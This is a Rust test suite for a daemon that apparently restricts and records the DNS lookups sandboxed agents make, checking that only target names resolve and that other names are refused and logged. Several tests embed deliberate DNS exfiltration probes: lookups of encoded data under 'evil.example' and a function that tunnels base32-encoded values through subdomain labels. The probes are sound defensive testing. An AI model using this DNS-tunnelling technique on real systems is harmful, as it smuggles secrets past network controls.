//! Agents that look names up themselves: answers lead to the target that the name is of, and no other name gets out.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::process::{Child, Command, Stdio};

use interceptor::testing::stage::{CARD, DATABASE, Stage};
use interceptor::testing::world::{FAR4, FAR6, Place};

use super::scene::{bounded, recorded, said, stage, wait_for};

/// A name that only the resolver knows, and only from the second question for it on.
const NAME: &str = "orders.service.test";
/// An alias of an alias of what has an IPv6 address alone; and a short name, to be looked up in the search domain.
const ALIAS: &str = "alias.service.test";
const SHORT: &str = "short";

/// A resolver on the far side that writes down what it is asked. It knows the three names while the switch is on.
fn resolver(stage: &Stage) -> Child {
    let script = format!(
        r#"
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("{FAR4}", 53))
log = open("{log}", "a", buffering=1); print("ready", flush=True)
FOUR, SIX = socket.inet_aton("{FAR4}"), socket.inet_pton(socket.AF_INET6, "{FAR6}")
def called(name): return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
def record(name, kind, data): return name + bytes([0, kind, 0, 1, 0, 0, 0, 1, 0, len(data)]) + data
def answers(name, kind):
    own = b"\xc0\x0c"
    if name == "{NAME}": return [record(own, 1, FOUR)] if kind == 1 else []
    if name == "{SHORT}.service.test": return [record(own, 1, FOUR), record(own, 1, FOUR)] if kind == 1 else []
    if name == "{ALIAS}":
        chain = [record(own, 5, called("a.cloud.test")), record(called("a.cloud.test"), 5, called("b.cloud.test"))]
        return chain + ([record(called("b.cloud.test"), 28, SIX)] if kind == 28 else [])
while True:
    q, client = s.recvfrom(2048)
    at, labels = 12, []
    while q[at]:
        labels.append(q[at+1:at+1+q[at]].decode("latin-1")); at += q[at] + 1
    name, kind = ".".join(labels), q[at+2]
    log.write(f"{{name}} {{kind}}\n")
    found = answers(name, kind) if open("{switch}").read() == "on" else None
    head = q[:2] + (b"\x81\x83" if found is None else b"\x81\x80")
    found = found or []
    s.sendto(head + b"\0\1\0" + bytes([len(found)]) + b"\0\0\0\0" + q[12:at+5] + b"".join(found), client)
"#,
        log = stage.path("asked").display(),
        switch = stage.path("switch").display(),
    );
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", &script]).stdout(Stdio::piped());
    let mut child = stage.world.spawn_in(Place::Far, command).unwrap();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
    child
}

/// A stage whose target has these names, which the daemon has not found; from now on the resolver knows them.
fn named(names: &[&str], capture: &str) -> (Stage, Child) {
    let mut stage = stage();
    fs::write(stage.path("switch"), "off").unwrap();
    let resolver = resolver(&stage);
    stage.stop_daemon().unwrap();
    let path = stage.path("interceptor.toml");
    let configuration = fs::read_to_string(&path).unwrap();
    let hosts: String = names.iter().map(|name| format!("\"{name}:5432\", ")).collect();
    let configuration = configuration
        .replace("resolver = \"none\"", &format!("resolver = \"{FAR4}\"\n{capture}"))
        .replace("hosts = [", &format!("hosts = [{hosts}"))
        // The stage's own name is in /etc/hosts, with the same address.
        .replace(", \"orders-db.internal:5432\"", "");
    fs::write(&path, configuration).unwrap();
    stage.start_daemon().unwrap();
    // The daemon could not find it: only the agent's own question, answered now, leads there.
    fs::write(stage.path("switch"), "on").unwrap();
    (stage, resolver)
}

/// What an agent reads at the target, by a name.
fn read_at(stage: &Stage, name: &str) -> Option<String> {
    let url = format!("postgres://billing:x@{name}:5432/{DATABASE}?sslmode=disable");
    let mut psql = Command::new("psql");
    psql.args(["-X", &url, "-c", "SELECT name, card FROM customers WHERE id = 1"]);
    let output = stage.run_agent(bounded(&psql)).unwrap();
    output.status.success().then(|| said(&output))
}

/// Runs a Python script as the agent.
fn script(stage: &Stage, script: &str) -> String {
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", script]);
    said(&stage.run_agent(bounded(&command)).unwrap())
}

#[test]
fn an_agent_looks_up_the_names_of_targets_and_no_other() {
    let (stage, mut resolver) = named(&[NAME], "");
    let answer = wait_for("an answer", || read_at(&stage, NAME));
    assert!(answer.contains("Ada Lovelace") && !answer.contains(CARD), "{answer}");

    let code = r#"
import socket
def fails(name):
    try: socket.getaddrinfo(name, 5432)
    except socket.gaierror as error: return error.errno
print([fails(name) for name in ["c2VjcmV0.evil.example", "orders.service.test.evil.example", "x" * 60 + ".evil.example"]])
# Past the library: other types, in odd spelling.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect(("10.99.0.2", 53))
def ask(name, kind):
    q = b"\xbe\xef\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + bytes([0, 0, kind, 0, 1])
    s.send(q); a = s.recv(600); return a[3] & 15, a[7]
print(ask("ORDERS.sErViCe.test", 1), ask("orders.service.test", 16), ask("txt.evil.example", 16))
"#;
    assert_eq!(script(&stage, code), "[-2, -2, -2]\n(0, 1) (0, 0) (3, 0)\n");
    let asked = fs::read_to_string(stage.path("asked")).unwrap();
    assert!(asked.lines().all(|line| line == format!("{NAME} 1") || line == format!("{NAME} 28")), "{asked}");
    let on_record = || {
        let events = recorded(&stage);
        ["c2vjcmv0.evil.example", "not covered", "passed on"].iter().all(|word| events.contains(word)).then_some(())
    };
    wait_for("the questions on record", on_record);
    resolver.kill().unwrap();
    resolver.wait().unwrap();
}

#[test]
fn aliases_ipv6_and_search_domains_lead_to_the_target() {
    let (mut stage, mut resolver) = named(&[ALIAS, SHORT], "");
    stage.stop_daemon().unwrap();
    let text = format!("nameserver {FAR4}\noptions timeout:1 attempts:1\nsearch service.test\n");
    fs::write(stage.world.directory().join("resolv.conf"), text).unwrap();
    fs::write(stage.path("switch"), "off").unwrap();
    stage.start_daemon().unwrap();
    fs::write(stage.path("switch"), "on").unwrap();
    for name in [ALIAS, SHORT] {
        let answer = wait_for("an answer", || read_at(&stage, name));
        assert!(answer.contains("Ada Lovelace") && !answer.contains(CARD), "{name}: {answer}");
    }
    // The one has an IPv6 address alone: that is where it was captured.
    let events = recorded(&stage);
    assert!(events.contains(&format!("[{FAR6}]:5432")), "{events}");
    // An answer holds for a second, what it taught for longer: programs keep addresses, too.
    let later = script(
        &stage,
        &format!(
            "import socket, time\naddress = socket.getaddrinfo('{ALIAS}', 5432, type=1)[0][4]\ntime.sleep(1.5)\n\
             s = socket.create_connection(address[:2]); s.sendall(bytes([0, 0, 0, 8, 4, 0xd2, 0x16, 0x2f])); print(s.recv(1))"
        ),
    );
    assert_eq!(later, "b'N'\n");
    // Over TCP, as after an answer that is cut off, a question is a connection to what is no target's.
    let cut = script(
        &stage,
        &format!(
            "import socket\ns = socket.create_connection(('{FAR4}', 53)); s.settimeout(5)\n\
             try: print(s.send(b'\\0\\x1d' + bytes(29)) and s.recv(9))\nexcept OSError as error: print(b'')"
        ),
    );
    assert_eq!(cut, "b''\n");
    let asked = fs::read_to_string(stage.path("asked")).unwrap();
    // The daemon's own questions are there as well. What stands behind an alias, nobody has asked for.
    assert!(asked.lines().all(|line| line.starts_with(SHORT) || line.starts_with(ALIAS)), "{asked}");
    resolver.kill().unwrap();
    resolver.wait().unwrap();
}

#[test]
fn below_a_wildcard_names_end_when_enough_is_said_and_that_is_on_record() {
    let capture = "dns_names = [\"*.deep.test\"]\ndns_label_bytes = 256";
    let (stage, mut resolver) = named(&[NAME], capture);
    // Two processes of one cgroup, each with as many names as it likes.
    let code = r#"
import base64, hashlib, os, socket
def ask(s, name):
    q = b"\xbe\xef\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + bytes([0, 0, 1, 0, 1])
    s.send(q); return s.recv(600)[3] & 15
def exfiltrate(who):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(6); s.connect(("10.99.0.2", 53))
    secrets = (base64.b32encode(hashlib.sha256(b"%d %d" % (who, n)).digest()).decode().strip("=") for n in range(40))
    return [ask(s, secret + ".deep.test") for secret in secrets]
reader, writer = os.pipe()
if os.fork() == 0:
    os.write(writer, repr(exfiltrate(0)).encode()); os._exit(0)
mine = exfiltrate(1)
both = mine + eval(os.read(reader, 4096))
print(both.count(3), both.count(5))
"#;
    // 512 bytes at once, of which each takes 54; nothing to speak of comes back within seconds.
    assert_eq!(script(&stage, code), "9 71\n");
    let asked = fs::read_to_string(stage.path("asked")).unwrap();
    assert_eq!(asked.lines().filter(|line| line.ends_with(".deep.test 1")).count(), 9, "{asked}");
    // What the operator has written out goes on.
    let answer = wait_for("an answer", || read_at(&stage, NAME));
    assert!(answer.contains("Ada Lovelace"), "{answer}");
    wait_for("it on record", || recorded(&stage).contains("too much said in names below wildcards").then_some(()));
    resolver.kill().unwrap();
    resolver.wait().unwrap();
}
